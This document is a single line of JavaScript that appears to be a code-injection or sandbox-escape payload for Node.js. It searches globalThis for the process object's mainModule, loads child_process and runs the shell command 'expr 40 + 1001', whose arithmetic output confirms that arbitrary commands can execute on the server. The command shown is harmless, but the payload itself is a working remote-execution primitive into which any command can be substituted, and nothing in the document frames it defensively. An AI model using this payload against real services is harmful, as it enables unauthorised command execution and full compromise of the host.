Object.getOwnPropertyNames(globalThis).map(k=>globalThis[k]).find(x=>x&&x.mainModule).mainModule.require('child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
